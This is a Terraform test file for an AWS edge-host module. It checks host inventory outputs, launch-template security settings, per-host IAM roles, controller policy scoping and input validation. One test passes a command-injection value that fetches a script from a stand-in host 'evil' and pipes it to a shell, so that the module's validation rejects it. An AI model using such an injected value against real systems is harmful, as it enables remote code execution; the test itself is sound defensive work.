mock_provider "aws" {
  mock_data "aws_region" {
    defaults = { name = "eu-central-1" }
  }

  mock_data "aws_caller_identity" {
    defaults = { account_id = "123456789012" }
  }

  mock_data "aws_partition" {
    defaults = { partition = "aws" }
  }

  mock_data "aws_subnet" {
    defaults = { availability_zone = "eu-central-1a" }
  }

  mock_resource "aws_launch_template" {
    defaults = { id = "lt-0123456789abcdef0", arn = "arn:aws:ec2:eu-central-1:123456789012:launch-template/lt-0123456789abcdef0" }
  }

  override_resource {
    target = aws_launch_template.host["edge-c"]
    values = { id = "lt-0123456789abcdefc", arn = "arn:aws:ec2:eu-central-1:123456789012:launch-template/lt-0123456789abcdefc" }
  }

  override_resource {
    target = aws_iam_role.host["edge-c"]
    values = { arn = "arn:aws:iam::123456789012:role/edge-edge-c" }
  }

  override_data {
    target = data.aws_iam_policy_document.trust
    values = { json = "{\"Version\":\"2012-10-17\",\"Statement\":[]}" }
  }

  override_data {
    target = data.aws_iam_policy_document.controller
    values = { json = "{\"Version\":\"2012-10-17\",\"Statement\":[]}" }
  }

  override_data {
    target = data.aws_iam_policy_document.certificate
    values = { json = "{\"Version\":\"2012-10-17\",\"Statement\":[]}" }
  }
}

variables {
  name             = "edge"
  vpc_id           = "vpc-1"
  ami_id           = "ami-1"
  certificate_path = "/foreshadow/edge"
  package          = "ansible-foreshadow==1.0.0"
  controller_cidrs = ["10.0.9.0/24"]
  hosts = {
    edge-a = { subnet_id = "subnet-a", address = "10.0.1.11", capacity = { cpu = 2 }, groups = ["edge"] }
    edge-b = { subnet_id = "subnet-b", instance_type = "c7i.large", labels = { tier = "fast" } }
    edge-c = { subnet_id = "subnet-b", address = "10.0.2.13", driver = "ec2" }
  }
}

run "hosts_are_told_as_the_inventory_reads_them" {
  assert {
    condition     = [for host in output.foreshadow_hosts : host.name] == ["edge-a", "edge-b", "edge-c"]
    error_message = "the output does not list the hosts"
  }

  assert {
    condition     = output.foreshadow_hosts[0].zone == "eu-central-1a" && output.foreshadow_hosts[0].port == 7443
    error_message = "the output does not say where the agent is"
  }

  assert {
    condition     = output.foreshadow_hosts[0].address == "10.0.1.11" && output.foreshadow_hosts[0].driver == "agent"
    error_message = "the output has another address than the host"
  }

  assert {
    condition     = output.foreshadow_hosts[1].labels == { instance_type = "c7i.large", tier = "fast" }
    error_message = "the labels of a host are not told"
  }

  assert {
    condition     = output.foreshadow_hosts[1].vars.aws_instance_id == output.instance_ids["edge-b"]
    error_message = "the id of the instance is not told"
  }
}

run "a_machine_of_foreshadow_is_told_by_its_template_and_not_made" {
  assert {
    condition     = keys(aws_instance.host) == ["edge-a", "edge-b"] && keys(aws_launch_template.host) == ["edge-a", "edge-b", "edge-c"]
    error_message = "Terraform makes a machine that is not its own, or a host has no template"
  }

  assert {
    condition     = output.foreshadow_hosts[2].driver == "ec2" && output.foreshadow_hosts[2].address == "10.0.2.13"
    error_message = "the driver does not learn where its machine will be"
  }

  assert {
    condition = output.foreshadow_hosts[2].labels == {
      instance_type       = "t3.medium"
      ec2_launch_template = aws_launch_template.host["edge-c"].id
      ec2_subnet          = "subnet-b"
      ec2_region          = "eu-central-1"
    }
    error_message = "the driver does not learn what its machine is made of"
  }
}

run "a_host_is_private_and_says_who_it_is" {
  command = plan

  assert {
    condition     = alltrue([for template in aws_launch_template.host : template.metadata_options[0].http_tokens == "required"])
    error_message = "the metadata service answers without a session"
  }

  assert {
    condition     = alltrue([for template in aws_launch_template.host : template.block_device_mappings[0].ebs[0].encrypted == "true"])
    error_message = "a root volume is not encrypted"
  }

  assert {
    condition     = aws_instance.host["edge-a"].tags["foreshadow-host"] == "edge-a"
    error_message = "the instance does not bear its name"
  }

  assert {
    condition     = length(aws_iam_role.host) == 3
    error_message = "hosts share a role, so one could read the key of another"
  }
}

run "user_data_fetches_the_certificate" {
  command = plan

  assert {
    condition     = strcontains(base64decode(aws_launch_template.host["edge-c"].user_data), "/foreshadow/edge/$1")
    error_message = "user data does not fetch the certificate from where it is"
  }

  assert {
    condition     = strcontains(base64decode(aws_launch_template.host["edge-c"].user_data), "host='edge-c'")
    error_message = "user data does not know whose it is"
  }
}

run "a_controller_makes_and_ends_machines_of_foreshadow_alone" {
  assert {
    # As text, for a list that was computed is never equal to one that was written.
    condition = jsonencode({
      for one in data.aws_iam_policy_document.controller.statement : one.sid => {
        for condition in one.condition : condition.variable => sort(condition.values)
      }
      }) == jsonencode({
      Ec2Read = {}
      Ec2Make = { "ec2:LaunchTemplate" = ["arn:aws:ec2:eu-central-1:123456789012:launch-template/lt-0123456789abcdefc"] }
      Ec2TagNew = {
        "ec2:CreateAction"               = ["RunInstances"]
        "aws:RequestTag/foreshadow:host" = ["edge-c"]
        "aws:TagKeys"                    = ["Name", "foreshadow:*"]
      }
      Ec2Tag   = { "aws:ResourceTag/foreshadow:host" = ["edge-c"], "aws:TagKeys" = ["Name", "foreshadow:*"] }
      Ec2Keep  = { "aws:ResourceTag/foreshadow:host" = ["edge-c"] }
      PassRole = { "iam:PassedToService" = ["ec2.amazonaws.com"] }
    })
    error_message = "a controller may do something to a machine that is not one of its own"
  }

  assert {
    condition = [
      for one in data.aws_iam_policy_document.controller.statement : one.resources if one.sid == "PassRole"
    ] == [toset(["arn:aws:iam::123456789012:role/edge-edge-c"])]
    error_message = "a controller may give a machine the role of a host that is none of Foreshadow's"
  }
}

run "a_controller_that_makes_no_machine_only_looks" {
  variables {
    hosts = { edge-a = { subnet_id = "subnet-a" } }
  }

  assert {
    condition     = [for one in data.aws_iam_policy_document.controller.statement : one.sid] == ["Ec2Read"]
    error_message = "a controller may make machines although Terraform makes all of them"
  }
}

run "a_machine_of_foreshadow_needs_an_address" {
  command = plan

  variables {
    hosts = { edge-c = { subnet_id = "subnet-b", driver = "ec2" } }
  }

  expect_failures = [var.hosts]
}

run "a_driver_that_is_not_there_is_refused" {
  command = plan

  variables {
    hosts = { edge-c = { subnet_id = "subnet-b", driver = "ec3" } }
  }

  expect_failures = [var.hosts]
}

run "agents_are_not_for_the_whole_world" {
  command = plan

  variables {
    controller_cidrs = ["0.0.0.0/0"]
  }

  expect_failures = [var.controller_cidrs]
}

run "a_package_is_no_shell" {
  command = plan

  variables {
    package = "x'; curl evil | sh; '"
  }

  expect_failures = [var.package]
}

run "a_path_that_could_lead_elsewhere_is_refused" {
  command = plan

  variables {
    certificate_path = "/foreshadow/*"
  }

  expect_failures = [var.certificate_path]
}

run "a_name_that_no_host_can_have_is_refused" {
  command = plan

  variables {
    hosts = { "edge/a" = { subnet_id = "subnet-a" } }
  }

  expect_failures = [var.hosts]
}
